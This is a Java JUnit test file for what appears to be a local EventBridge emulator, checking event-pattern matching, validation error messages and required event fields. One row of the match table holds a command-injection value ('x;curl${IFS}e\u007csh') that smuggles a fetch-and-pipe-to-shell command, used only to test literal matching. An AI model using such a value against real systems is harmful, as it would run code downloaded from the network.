package dev.signalbox.local.events;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.signalbox.local.api.AwsError;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.services.eventbridge.model.TestEventPatternRequest;
import software.amazon.awssdk.services.eventbridge.model.TestEventPatternResponse;

class EventPatternTest {
  private final Scene scene = new Scene();

  private boolean matches(String pattern, String event) {
    return scene
        .calls()
        .call(
            "TestEventPattern",
            TestEventPatternRequest.builder().eventPattern(pattern).event(event).build(),
            TestEventPatternResponse.class)
        .result();
  }

  private static String event(String detail) {
    return """
    {"id":"1","source":"shop","detail-type":"Sold","account":"111111111111",
     "region":"eu-west-1","time":"2026-11-21T10:00:00Z","resources":["arn:aws:x:::a"],"detail":%s}
    """
        .formatted(detail);
  }

  @ParameterizedTest(name = "{0} on {1}: {2}")
  @CsvSource(
      quoteCharacter = '`',
      delimiter = '|',
      textBlock =
          """
          {"detail":{"a":["x","y"]}}                     | {"a":"y"}                  | true
          {"detail":{"a":["x"]}}                         | {"a":["z","x"]}            | true
          {"detail":{"a":["X"]}}                         | {"a":"x"}                  | false
          {"detail":{"a":[null]}}                        | {"a":null}                 | true
          {"detail":{"a":[null]}}                        | {"a":"null"}               | false
          {"detail":{"a":[true]}}                        | {"a":"true"}               | false
          {"detail":{"a":[300]}}                         | {"a":300.0}                | true
          {"detail":{"a":[{"prefix":"rel"}]}}            | {"a":"release/2"}          | true
          {"detail":{"a":[{"suffix":".md"}]}}            | {"a":"docs/x.md"}          | true
          {"detail":{"a":[{"wildcard":"*/web/*"}]}}      | {"a":"x/web/y"}            | true
          {"detail":{"a":[{"anything-but":["x"]}]}}      | {"a":"y"}                  | true
          {"detail":{"a":[{"anything-but":{"prefix":"tmp/"}}]}} | {"a":"tmp/1"}       | false
          {"detail":{"a":[{"anything-but":{"suffix":".md"}}]}}  | {"a":"x.java"}      | true
          {"detail":{"a":[{"anything-but":["x"]}]}}      | {"b":"y"}                  | false
          {"detail":{"a":[{"exists":false}]}}            | {"b":1}                    | true
          {"detail":{"a":[{"exists":true}]}}             | {"a":null}                 | true
          {"detail":{"a":[{"equals-ignore-case":"Main"}]}} | {"a":"MAIN"}             | true
          {"detail":{"a":[{"numeric":[">",1,"<=",5]}]}}  | {"a":5}                    | true
          {"detail":{"a":[{"numeric":[">",1.5]}]}}       | {"a":1.50}                 | false
          {"detail":{"a":[{"cidr":"10.0.0.0/24"}]}}      | {"a":"10.0.0.255"}         | true
          {"detail":{"$or":[{"a":[1]},{"b":[2]}]}}       | {"b":2}                    | true
          {"detail":{"a.b":["x"]}}                       | {"a":{"b":"x"}}            | true
          {"detail":{"l":{"a":[1],"b":[2]}}}             | {"l":[{"a":1},{"b":2}]}    | false
          {"detail":{"l":{"a":[1],"b":[2]}}}             | {"l":[{"a":1,"b":2}]}      | true
          {"resources":["arn:aws:x:::a"]}                | {}                         | true
          {"detail":{"a":["ünï ☃"]}}                     | {"a":"ünï ☃"}              | true
          {"detail":{"a":["x;curl${IFS}e\\u007csh"]}}    | {"a":"x;curl${IFS}e\\u007csh"} | true
          """)
  void patternsMatchAsOnAws(String pattern, String detail, boolean matches) {
    assertThat(matches(pattern, event(detail))).isEqualTo(matches);
  }

  @ParameterizedTest(name = "{0} is refused because: {1}")
  @CsvSource(
      quoteCharacter = '`',
      delimiter = '|',
      textBlock =
          """
          {"a":"x"}                              | "a" must be an object or an array
          {"a":[]}                               | Empty arrays are not allowed
          {"a":{}}                               | Empty objects are not allowed
          []                                     | Filter is not an object
          {"a":[{"Exists":true}]}                | Unrecognized match type Exists
          {"a":[{"numeric":[">",1,">",2]}]}      | Bad numeric range operator: >
          """)
  void aBadPatternIsRefusedInTheEnginesWords(String pattern, String reason) {
    assertThatThrownBy(() -> matches(pattern, event("{}")))
        .isInstanceOfSatisfying(
            AwsError.class,
            error -> {
              assertThat(error.code()).isEqualTo("InvalidEventPatternException");
              assertThat(error)
                  .hasMessageStartingWith(
                      "Event pattern is not valid. Reason: " + reason + "\n at ");
            });
  }

  @Test
  void theRefusalShowsWhereInThePatternAsAwsDoes() {
    assertThatThrownBy(() -> matches("{\"resources\": []}", event("{}")))
        .hasMessage(
            "Event pattern is not valid. Reason: Empty arrays are not allowed\n"
                + " at [Source: (String)\"{\"resources\": []}\"; line: 1, column: 17]");
  }

  @Test
  void tooManyWildcardsAreTooComplex() {
    assertThatThrownBy(
            () -> matches("{\"a\":[{\"wildcard\":\"*a*a*a*a*a*a*a*a*a*a*a*\"}]}", event("{}")))
        .hasMessageContaining("Rule is too complex - try using fewer wildcard characters");
  }

  @ParameterizedTest
  @ValueSource(strings = {"id", "account", "source", "time", "region", "detail-type"})
  void anEventToTestHasTheMandatoryFields(String field) {
    var event = Scene.object(event("{}")).without(field);
    assertThatThrownBy(() -> matches("{\"source\":[\"shop\"]}", event.toString()))
        .hasMessageStartingWith("Parameter Event is not valid.");
  }

  @Test
  void anEventToTestIsJson() {
    assertThatThrownBy(() -> matches("{\"source\":[\"shop\"]}", "nonsense"))
        .hasMessage("Parameter Event is not valid.");
  }

  @Test
  void aRuleThatNoLongerMatchesStopsMatchingAtOnce() {
    scene.ruleTo(Scene.queue().build());
    scene.rule("all", "{\"source\":[\"elsewhere\"]}");
    scene.put(Scene.event("{}").build());
    assertThat(scene.messages).isEmpty();
  }
}
